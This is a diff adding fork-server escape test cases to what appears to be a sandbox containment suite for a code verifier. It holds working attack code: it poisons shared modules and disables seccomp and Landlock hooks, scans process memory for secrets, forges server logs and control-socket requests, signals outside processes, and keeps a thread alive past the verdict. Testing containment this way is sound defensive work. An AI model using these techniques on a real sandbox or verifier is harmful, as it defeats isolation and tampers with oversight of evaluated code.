@@ -534,3 +534,249 @@ extern "C" void attack() {
 '''), "3"),
 )
 CASES = CASES + Z23_CASES
+
+
+# ---- the fork server (verifier.sandbox.zygote) -----------------------------------------------------
+# A runner forked from a long-lived server instead of exec'd: it starts with the server's memory
+# (copy-on-write: torch, the preloaded modules, remnants of the requests that forked earlier processes),
+# its address-space layout, its original environment and command line (/proc/self/environ and
+# cmdline still show the server's), its stack of frames (the launcher's code called the role's main)
+# and its import links (``verifier.__path__`` points into the server's directory). Each case below uses
+# one of these. An attack that sees it succeeded says so in its verdict (``ESCAPED_TAG``, spelled at
+# run time so that no traceback line shows it); the containment test fails on it. Under the exec'd
+# launcher (EVOKERNEL_FORK_SERVER=0) the same cases find nothing of the server to use.
+ESCAPED_TAG = "ESCAPED:"
+FORK_REPORT = r'''
+import ctypes, os, re, sys
+_ESC = "ESC" + "APED:"
+_hits = []
+
+
+def _try(what, action):
+    """Run one attack step; a step that does not raise is a hit (it crossed the sandbox's boundary)."""
+    try:
+        result = action()
+    except BaseException as exc:  # refused: contained
+        return f"{what}: {type(exc).__name__}"
+    _hits.append(f"{what} -> {str(result)[:160]}")
+    return f"{what}: done"
+
+
+def _report(summary):
+    if _hits:
+        raise RuntimeError(_ESC + " " + " | ".join(_hits)[:1500])
+    raise RuntimeError("contained: " + summary[:1500])
+
+
+def _own_root():
+    return os.path.dirname(os.getcwd())  # <site>/work is the process's directory
+
+
+def _memory(patterns, biggest=64 << 20):
+    """Every match of ``patterns`` in this process's readable anonymous memory (heap, stacks, arenas:
+    what the fork server held when it forked the launcher), read through /proc/self/mem."""
+    found = [set() for _ in patterns]
+    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
+        for line in maps.read().splitlines():
+            parts = line.split(None, 5)
+            name = parts[5] if len(parts) > 5 else ""
+            lo, hi = (int(x, 16) for x in parts[0].split("-"))
+            if parts[1][0] != "r" or name.startswith(("/", "[v")) or hi - lo > biggest:
+                continue
+            try:
+                mem.seek(lo)
+                data = mem.read(hi - lo)
+            except (OSError, ValueError, OverflowError):
+                continue
+            for i, pattern in enumerate(patterns):
+                found[i].update(m.group().decode(errors="replace") for m in re.finditer(pattern, data))
+    return found
+'''
+
+
+def fork_case(name: str, covers: str, module_code: str) -> EscapeCase:
+    return python(name, covers, FORK_REPORT + module_code)
+
+
+FORK_CASES = (
+    fork_case("fork_plant_module_poison", "poisons the preloaded modules it shares with the fork server (isolation."
+              "apply, seccomp.install, Landlock's restrict, torch's relu, builtins, the environment), hoping "
+              "that a later process forked from the same server inherits them (fork_find_module_poison looks)", r'''
+import builtins, torch
+from verifier.sandbox import isolation, landlock, seccomp, zygote
+for _name, _module in list(sys.modules.items()):
+    if _name.startswith(("verifier", "kernelbench_npu", "torch")) and _module is not None:
+        try:
+            setattr(_module, "_z_fork_poison", "{{CASE}}")
+        except Exception:
+            pass
+builtins._z_fork_poison = "{{CASE}}"
+os.environ["EVOKERNEL_Z_FORK_POISON"] = "1"
+isolation.apply = lambda policy: None
+seccomp.install = lambda profile: False
+landlock.Ruleset.restrict = lambda self: None
+zygote.ROLES = zygote.ROLES + ("os",)
+torch.relu = torch.nn.functional.relu = lambda x, inplace=False: x
+_report("planted poison in this process's copy of the server's modules")
+'''),
+    fork_case("fork_heap_remnants_reuse", "scans its own memory (inherited from the fork server) for remnants of "
+              "earlier requests (other processes' directories, the server's) and the monitor's secrets, then lists, "
+              "reads and writes each directory it found", r'''
+_tmp = re.escape(os.path.dirname(_own_root()).encode())
+_dirs, _secrets = _memory([_tmp + rb"/evokernel-(?:[a-z]+-)?[A-Za-z0-9_]{8}", rb"leakmarker[0-9a-f]{12}"])
+_dirs.discard(_own_root())
+_log = []
+for _d in sorted(_dirs):
+    _log.append(_try(f"list {_d}", lambda: os.listdir(_d)))
+    _log.append(_try(f"list {_d}/work", lambda: os.listdir(_d + "/work")))
+    for _f in ("work.process.log", "server.log", "work/candidate.py"):
+        if os.path.exists(f"{_d}/{_f}"):
+            _log.append(_try(f"read {_d}/{_f}", lambda: open(f"{_d}/{_f}", "rb").read(200)))
+    _log.append(_try(f"write into {_d}/work", lambda: open(_d + "/work/fork-remnant-pwned", "x").write("pwned")))
+if _secrets:
+    raise RuntimeError("LEAKED: the monitor's secrets are in a forked runner's memory: " + " ".join(sorted(_secrets)))
+_report(f"found {len(_dirs)} directories in memory: {sorted(_dirs)}; " + "; ".join(_log))
+'''),
+    fork_case("fork_server_directory_and_log", "finds the fork server's directory (its environ, __main__.__file__, "
+              "verifier.__path__), reads and forges its log, plants modules on its import path, swaps its import "
+              "links, and writes the project's source through them", r'''
+_roots = set()
+for _p in list(getattr(sys.modules.get("verifier"), "__path__", [])):
+    _roots.add(os.path.dirname(os.path.dirname(_p)))  # <root>/.imports-work/verifier
+_main = getattr(sys.modules.get("__main__"), "__file__", "") or ""
+if "/.imports-" in _main:
+    _roots.add(_main.split("/.imports-")[0])
+for _entry in open("/proc/self/environ", "rb").read().split(b"\0"):
+    _key, _, _value = _entry.decode(errors="replace").partition("=")
+    if _key in ("HOME", "TMPDIR", "PYTHONPATH") and _value:
+        _roots.add(os.path.dirname(_value) if _key != "PYTHONPATH" else os.path.dirname(_value))
+_roots.discard(_own_root())
+_log = []
+for _r in sorted(_roots):
+    _imports = [f"{_r}/.imports-work"]
+    _log.append(_try(f"list {_r}", lambda: os.listdir(_r)))
+    _log.append(_try(f"read {_r}/server.log", lambda: open(_r + "/server.log", "rb").read(200)))
+    _log.append(_try(f"forge {_r}/server.log", lambda: open(_r + "/server.log", "a").write("Traceback: forged\n")))
+    for _n in ("json.py", "sitecustomize.py", "traceback.py"):
+        _log.append(_try(f"plant {_r}/work/{_n}", lambda: open(f"{_r}/work/{_n}", "x").write("import os\n")))
+    for _i in sorted(set(_imports)):
+        _log.append(_try(f"swap {_i}/verifier", lambda: os.rename(_i + "/verifier", _i + "/verifier.old")))
+        _log.append(_try(f"link into {_i}", lambda: os.symlink(os.getcwd(), _i + "/evil")))
+        _log.append(_try(f"write {_i}/verifier/__init__.py", lambda: open(_i + "/verifier/__init__.py", "a").write("\n")))
+_report(f"server directories {sorted(_roots)}; " + "; ".join(_log))
+'''),
+    fork_case("fork_descriptors_and_frames", "looks for descriptors of the fork server or the launcher (its control "
+              "socket, the status pipe, pidfds, the server's log) among its own and in the launcher's frames still on "
+              "its stack, and sends a forged unconfined request on any socket of the server's kind", r'''
+import json, socket, stat
+_own = {int(a) for a in sys.argv[1:] if a.isdigit()}
+_foreign, _log = [], []
+for _fd in range(4096):
+    try:
+        _st = os.fstat(_fd)
+    except OSError:
+        continue
+    try:
+        _target = os.readlink(f"/proc/self/fd/{_fd}")
+    except OSError:
+        _target = "?"
+    if _fd in _own or _target in ("/dev/null",) or _target.endswith((".process.log", "(deleted)")) \
+            or _target.startswith("/proc/") or (stat.S_ISREG(_st.st_mode) and _target.startswith(os.getcwd())):
+        continue
+    _foreign.append(f"{_fd}={_target}")
+_frames, _f = [], sys._getframe()
+while _f is not None:
+    for _k in ("control", "monitor", "status_w", "confined_w", "fds", "keep"):
+        if _k in _f.f_locals:
+            _frames.append(f"{_f.f_code.co_name}.{_k}={_f.f_locals[_k]!r}"[:120])
+    _control = _f.f_locals.get("control")
+    if isinstance(_control, socket.socket):
+        _log.append(_try(f"the control socket in {_f.f_code.co_name}", lambda: socket.send_fds(_control, [b"{}"], [0, 1])))
+    _f = _f.f_back
+_request = json.dumps({"module": "verifier.sandbox.candidate_runner", "args": [], "policy": "{}", "env": {},
+                       "cwd": "/"}).encode()
+for _item in _foreign:
+    _fd = int(_item.split("=")[0])
+    if _item.split("=", 1)[1].startswith("socket:"):
+        _s = socket.socket(fileno=os.dup(_fd))
+        if _s.type == socket.SOCK_SEQPACKET:
+            _log.append(_try(f"forged request on {_item}", lambda: socket.send_fds(_s, [_request], [0, 1])))
+if _foreign:
+    _hits.append(f"descriptors not its own: {_foreign}")
+_report(f"no foreign descriptor; launcher frames: {_frames}; " + "; ".join(_log))
+'''),
+    fork_case("fork_signal_outside", "learns the launcher's, the server's and the monitor's pids (/proc/self/status "
+              "NSpgid, the server's /proc/self/environ) and signals them (signal 0: the permission check) through "
+              "rt_sigqueueinfo, rt_tgsigqueueinfo and F_SETOWN, which the seccomp filter lets through, then the "
+              "process group through kill(0)", r'''
+import fcntl, signal
+_status = {l.split(":")[0]: l.split(":", 1)[1].split() for l in open("/proc/self/status")}
+_launcher = int(_status["NSpgid"][0])
+_pids = {_launcher, int(_status["NSpid"][0]), int(_status["NSsid"][0])}
+for _entry in open("/proc/self/environ", "rb").read().split(b"\0"):
+    if _entry.startswith(b"EVOKERNEL_MONITOR_PID="):
+        _pids.add(int(_entry.split(b"=")[1]))
+_pids |= set(range(max(2, _launcher - 64), _launcher))  # the server forked the launcher: a pid just below
+_pids.discard(1)
+_libc = ctypes.CDLL(None, use_errno=True)
+_libc.syscall.restype = ctypes.c_long
+_info = (ctypes.c_int * 32)(0, 0, -1)  # si_signo, si_errno, si_code = SI_QUEUE
+_log = []
+for _pid in sorted(_pids):
+    if _libc.syscall(ctypes.c_long(129), ctypes.c_long(_pid), ctypes.c_long(0), _info) == 0:
+        _hits.append(f"rt_sigqueueinfo reached pid {_pid}")
+    if _libc.syscall(ctypes.c_long(297), ctypes.c_long(_pid), ctypes.c_long(_pid), ctypes.c_long(0), _info) == 0:
+        _hits.append(f"rt_tgsigqueueinfo reached pid {_pid}")
+for _who in (_launcher, -_launcher, *[p for p in _pids if p > _launcher]):
+    _log.append(_try(f"F_SETOWN {_who}", lambda: fcntl.fcntl(1, fcntl.F_SETOWN, _who)))
+if _hits:
+    _report("")
+os.kill(0, 0)  # the process group holds the launcher: the seccomp filter kills the process here
+_hits.append("kill(0, 0): the launcher's process group can be signalled")
+_report("; ".join(_log))
+'''),
+    fork_case("fork_sleeping_thread_outlives", "clears its parent-death signal, ignores every catchable signal, makes "
+              "os._exit (which ends a forked process after its main) block forever and leaves a thread that sleeps "
+              "through the verification, then writes the lake file and /tmp and calls the loopback server", r'''
+import signal, socket, threading, time
+_libc = ctypes.CDLL(None)
+_libc.prctl(1, 0, 0, 0, 0)  # PR_SET_PDEATHSIG 0: outlive the launcher
+for _sig in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGPIPE, signal.SIGUSR1, signal.SIGUSR2, signal.SIGALRM):
+    signal.signal(_sig, signal.SIG_IGN)
+os._exit = lambda code=0: threading.Event().wait()
+sys.exit = lambda code=0: threading.Event().wait()
+
+
+def _later():
+    time.sleep(8)  # past the verdict
+    for _ in range(60):
+        for _act in (lambda: open("{{TMP_NEW}}", "w").write("pwned"), lambda: open("{{LAKE_FILE}}", "r+b").write(b"pwned"),
+                     lambda: socket.create_connection(("127.0.0.1", {{PORT}}), timeout=1).sendall(b"pwned")):
+            try:
+                _act()
+            except Exception:
+                pass
+        time.sleep(1)
+
+
+threading.Thread(target=_later, name="sleeper").start()  # not a daemon: the interpreter waits for it
+'''),
+    fork_case("fork_find_module_poison", "a later verification looks for fork_plant_module_poison's poison in the "
+              "modules, builtins and environment it shares with the fork server, and checks that it is confined "
+              "all the same (seccomp mode, no_new_privs, Landlock)", r'''
+import builtins, torch
+_found = [n for n, m in list(sys.modules.items()) if "_z_fork_poison" in getattr(m, "__dict__", {})]
+if getattr(builtins, "_z_fork_poison", None) or os.environ.get("EVOKERNEL_Z_FORK_POISON"):
+    _found.append("builtins or environment")
+if float(torch.relu(torch.tensor(-1.0))) != 0.0:
+    _found.append("torch.relu")
+if _found:
+    _hits.append(f"poison of an earlier process: {_found[:8]}")
+_status = {l.split(":")[0]: l.split(":", 1)[1].strip() for l in open("/proc/self/status")}
+if _status.get("Seccomp") != "2" or _status.get("NoNewPrivs") != "1":
+    _hits.append(f"unconfined: Seccomp {_status.get('Seccomp')} NoNewPrivs {_status.get('NoNewPrivs')}")
+_try("list / (Landlock)", lambda: os.listdir("/"))
+_report("no poison inherited; confined")
+'''),
+)
+CASES = CASES + FORK_CASES
